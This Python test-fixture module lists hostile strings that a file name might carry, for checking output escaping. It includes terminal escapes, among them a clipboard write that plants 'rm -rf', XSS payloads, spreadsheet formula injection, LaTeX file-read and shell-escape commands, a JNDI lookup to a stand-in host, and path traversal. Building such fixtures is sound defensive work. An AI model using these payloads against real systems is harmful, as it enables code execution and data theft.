"""Hostile strings: what a name in somebody's file may hold."""

from __future__ import annotations

MARK = "Zq"
"""Stands in every hostile string, so that a test can tell whether an output shows it at all."""

STRINGS = (
    f"\x1b[31m{MARK}\x1b[0m\x1b[2J",  # colours, and an empty screen
    f"\x1b]0;{MARK}\x07",  # the window's title
    f"\x1b]8;;http://evil.example/\x1b\\{MARK}\x1b]8;;\x1b\\",  # a link that shows another text
    f"\x1b]52;c;cm0gLXJm\x07{MARK}",  # the clipboard
    f"\x9b31m{MARK}\x9d0;t\x9c\x90q\x9c",  # the same as single characters
    f"{MARK}\rok\x08\x08\x7f\x0b\x0c\x00\x1a\x05",
    f"{MARK}\u202egpj.exe\u202c\u2066\u2067\u2068\u2069\u202a\u202b\u202d",  # another direction
    f"{MARK}\u2028line\u2029paragraph\x85next",
    f"{MARK}\r\n::error::line\n# heading\n| cell |",
    f"<script>alert('{MARK}')</script>",
    f"\"'><img src=x onerror=alert('{MARK}')></title></style></script><b>",
    f"[{MARK}](javascript:alert(1)) <javascript:alert(1)> ![x](http://evil.example/p.png)",
    f"<a href='javascript:alert(1)'>{MARK}</a><!-- --> &lt;b&gt; &#60;i&#62;",
    f"]]>{MARK}<![CDATA[",
    f"=cmd|' /C calc'!A0 {MARK}",
    f"+1+{MARK}",
    f"-1+{MARK}",
    f"@SUM(1)*{MARK}",
    f' \t=HYPERLINK("http://evil.example","{MARK}")',
    f"\\input{{/etc/passwd}}{MARK}\\write18{{id}}",
    f"%{MARK} $x^2_1$ ~#&{{}} ^^M",
    f"{MARK}|`tick`|**bold**|_it_|~~no~~",
    f"{MARK}\n```\n# out of the fence\n~~~\n```{MARK}",
    f"[red]{MARK}[/red] [/] [link=file:///etc/passwd]x[/link] :smile:",
    f"{{{{7*7}}}} ${{jndi:ldap://evil.example}} {{% {MARK} %}} %s %n {{0}}",
    f"../../{MARK}",
    f"/etc/passwd\x00{MARK}",
    f"{MARK}\ufffe\uffff\ufff9\U000e0041\U000e007f",
    f"{MARK}" + "x" * 5000,
)
